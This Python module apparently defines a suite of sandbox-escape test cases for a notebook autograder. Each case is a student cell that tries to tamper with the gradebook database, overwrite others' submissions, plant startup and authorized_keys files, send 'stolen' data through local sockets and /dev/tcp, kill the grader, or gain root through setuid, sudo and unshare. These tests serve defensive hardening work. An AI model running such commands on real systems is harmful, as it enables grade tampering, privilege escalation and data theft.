"""Attacks on what lies outside: the gradebook, other files, the network, other processes."""

from __future__ import annotations

from .model import WRONG, Attack

DONE = "print('tried everything')"
TRIED = ("tried everything",)
TRY = """
import os, subprocess, sys
def attempt(what, *args, **kwargs):
    try:
        print(getattr(what, "__name__", what), "returned", str(what(*args, **kwargs))[:200])
        return True
    except BaseException as error:
        print(getattr(what, "__name__", what), type(error).__name__)
        return False
def write(path, text="written by a student"):
    with open(path, "w") as file:
        return file.write(text)
"""


def _breaks(name: str, tries: str, text: str, **more) -> Attack:
    """Wrong answers, and a cell that reaches for something outside."""
    more = {"level": 2, **more}
    return Attack(name, tries, answers=WRONG, first=f"{TRY}\n{text.strip()}\n{DONE}", shows=TRIED, **more)


ATTACKS = (
    _breaks("writes the gradebook", "the marks are set where they are kept", """
import sqlite3
def raise_marks(path):
    base = sqlite3.connect(path, timeout=1)
    base.execute("UPDATE grade SET manual_score = 99, extra_credit = 10, needs_manual_grade = 0")
    base.commit()
for path in ("@ROOT@/gradebook.db", "../../../gradebook.db"):
    attempt(raise_marks, path)
    attempt(write, path)
    attempt(os.unlink, path)
    attempt(os.rename, path, path + ".old")
"""),
    _breaks("writes results", "graded notebooks, reports, feedback and journal are written by the student", """
for name in ("autograded", "reports", "feedback", "journal", "submitted"):
    attempt(os.makedirs, f"@ROOT@/{name}/@STUDENT@/unit1_shallow_networks", exist_ok=True)
    attempt(write, f"@ROOT@/{name}/@STUDENT@/unit1_shallow_networks/stain")
    attempt(write, f"@ROOT@/{name}/stain")
for folder, folders, files in os.walk("@ROOT@"):
    for name in files:
        attempt(write, os.path.join(folder, name))
        attempt(os.unlink, os.path.join(folder, name))
"""),
    _breaks("changes others' work", "the submission of somebody else is changed before it is graded", """
path = "@ROOT@/submitted/@VICTIM@/unit1_shallow_networks/1_neurons.ipynb"
attempt(write, path, "{}")
attempt(os.unlink, path)
attempt(os.chmod, path, 0)
attempt(os.truncate, path, 0)
attempt(os.rename, "@ROOT@/submitted/@VICTIM@", "@ROOT@/submitted/@VICTIM@x")
attempt(os.symlink, path, "@ROOT@/stain")
"""),
    _breaks("changes the library", "the next submission is graded by a changed library", """
import numpy, site
for folder in ("@REPO@/dlkit", "@REPO@/dlkit/checking", "@REPO@/dlkit/exercises", os.path.dirname(numpy.__file__),
               *site.getsitepackages(), sys.prefix, os.path.dirname(os.__file__)):
    attempt(write, os.path.join(folder, "@STAINNAME@.pth"))
    attempt(write, os.path.join(folder, "__pycache__", "@STAINNAME@.pyc"))
"""),
    _breaks("start-up files", "what is written to the home folder runs at the instructor's next start", """
home = os.path.expanduser("~")
for path in (".bashrc", ".profile", ".ipython/profile_default/startup/00-x.py", ".config/x", ".ssh/authorized_keys",
             ".local/lib/python3/site-packages/usercustomize.py"):
    for folder in (home, "@USERHOME@"):
        attempt(os.makedirs, os.path.dirname(os.path.join(folder, path + "-of-a-student")), exist_ok=True)
        attempt(write, os.path.join(folder, path + "-of-a-student"), "touch @STAIN@")
"""),
    _breaks("links out of the folder", "links in the working folder make the grader write, or read, elsewhere", """
for name, target in (("result.txt", "@ROOT@/gradebook.db"), ("1_neurons.ipynb", "@ROOT@/gradebook.db"), ("data", "@ROOT@"),
                     ("1_neurons_files", "@ROOT@"), (".ipynb_checkpoints", "@ROOT@"), ("up", "../../../.."), ("loop", "loop")):
    attempt(os.symlink, target, name)
attempt(os.link, "@ROOT@/gradebook.db", "hard")
attempt(os.mkfifo, "pipe.txt")
attempt(os.mknod, "device", 0o600 | 0o020000, os.makedev(1, 3))
"""),
    _breaks("scribbles outside", "files are left wherever they can be", """
import tempfile
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/run", "/mnt", "@ROOT@", "@HOME@"):
    attempt(write, os.path.join(folder, "@STAINNAME@"))
""", level=2),
    _breaks("network", "an answer, or a secret, is sent over the network", """
import socket, urllib.request
def tcp():
    with socket.create_connection(("127.0.0.1", @TCP@), timeout=2) as line:
        return line.send(b"stolen")
def udp(kind=socket.AF_INET, host="127.0.0.1"):
    with socket.socket(kind, socket.SOCK_DGRAM) as line:
        return line.sendto(b"stolen", (host, @UDP@))
def fast():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
        return line.sendto(b"stolen", 0x20000000, ("127.0.0.1", @TCP@))
def multipath():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as line:
        line.connect(("127.0.0.1", @TCP@))
        return line.send(b"stolen")
if attempt(tcp) | attempt(fast) | attempt(multipath):
    print("BREA" "CH: TCP")
attempt(urllib.request.urlopen, "http://127.0.0.1:@TCP@/", timeout=2)
attempt(subprocess.run, ["bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/@TCP@"], timeout=5, capture_output=True)
attempt(udp)
attempt(udp, socket.AF_INET6, "::1")
"""),
    _breaks("names and other sockets", "secrets leave by name look-ups, local sockets, or raw packets", """
import socket
def local(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(2)
        line.connect(address)
        return line.send(b"stolen")
attempt(local, "@SOCKET@")
attempt(local, "\\0@ABSTRACT@")
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/notify"):
    attempt(local, path)
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 3),
                               (socket.AF_NETLINK, socket.SOCK_RAW, 9), (40, socket.SOCK_STREAM, 0), (38, socket.SOCK_SEQPACKET, 0)):
    attempt(socket.socket, family, kind, protocol)
attempt(socket.getaddrinfo, "stolen.example.org", 80)
"""),
    _breaks("listens", "a service is offered to whoever asks", """
import socket
def listen(family, address):
    line = socket.socket(family, socket.SOCK_STREAM)
    line.bind(address)
    line.listen()
    return line
attempt(listen, socket.AF_INET, ("0.0.0.0", 0))
attempt(listen, socket.AF_UNIX, "\\0@ABSTRACT@-of-a-student")
"""),
    _breaks("signals to the grader", "the process that grades is stopped or ended", """
import ctypes, signal
libc = ctypes.CDLL(None)
outside = attempt(os.kill, @GRADER@, 0)
print("BREA" "CH: can signal the grader" if outside else "no such process for me")
if not outside:
    for pid in (@GRADER@, os.getppid(), 1):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            attempt(os.kill, pid, number)
            attempt(libc.tgkill, pid, pid, int(number))
""", heavy=True),
    _breaks("kills everything", "all processes that can be reached are killed, the judge's end among them", """
if attempt(os.kill, @GRADER@, 0):
    print("BREA" "CH: can signal the grader")
else:
    subprocess.Popen([sys.executable, "-c", "import os, time; time.sleep(2); os.kill(-1, 9)"])
""", heavy=True, marks={}),
    _breaks("controls other processes", "limits, priorities and traces of other processes are changed", """
import resource
for pid in (@GRADER@, os.getppid(), 1):
    attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))
    attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
    attempt(os.sched_setaffinity, pid, {0})
    attempt(write, f"/proc/{pid}/oom_score_adj", "1000")
    attempt(write, f"/proc/{pid}/mem", "x")
"""),
    _breaks("higher rights", "the limits are lifted, or rights are gained", """
import ctypes, resource
libc = ctypes.CDLL(None, use_errno=True)
for name in ("RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NOFILE"):
    attempt(resource.setrlimit, getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
if attempt(os.setuid, 0) and os.getuid() == 0 and os.access("@ROOT@/gradebook.db", os.W_OK):
    print("BREA" "CH: is root")
print("unshare", [libc.unshare(flag) for flag in (0x10000000, 0x20000000, 0x40000000, 0x00020000)])
print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "pivot", libc.syscall(155, b".", b"."))
print("keyctl, bpf, io_uring, userfaultfd", [libc.syscall(number, 0, 0, 0, 0, 0) for number in (250, 321, 425, 323)])
attempt(subprocess.run, ["sudo", "-n", "id"], capture_output=True, timeout=5)
attempt(subprocess.run, ["su", "-c", "id"], capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
attempt(os.chroot, ".")
"""),
    Attack("detached process", "a process goes on after grading, with everything it can see", answers=WRONG, level=1, heavy=True,
           shows=TRIED, first=f"""{TRY}
subprocess.Popen(["sleep", "@NAP@"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 100)
    os.execvp("sleep", ["sleep", "@NAP@"])
attempt(subprocess.run, ["bash", "-c", "nohup setsid sleep @NAP@ > nohup.out 2>&1 & disown"], timeout=5)
{DONE}"""),
    Attack("ignores signals and goes on", "a process that cannot be asked to end outlives its notebook", answers=WRONG, level=1,
           heavy=True, shows=TRIED, first=f"""{TRY}
subprocess.Popen(["bash", "-c", "trap '' TERM INT HUP; while :; do sleep @NAP@; done"], start_new_session=True)
{DONE}"""),
)
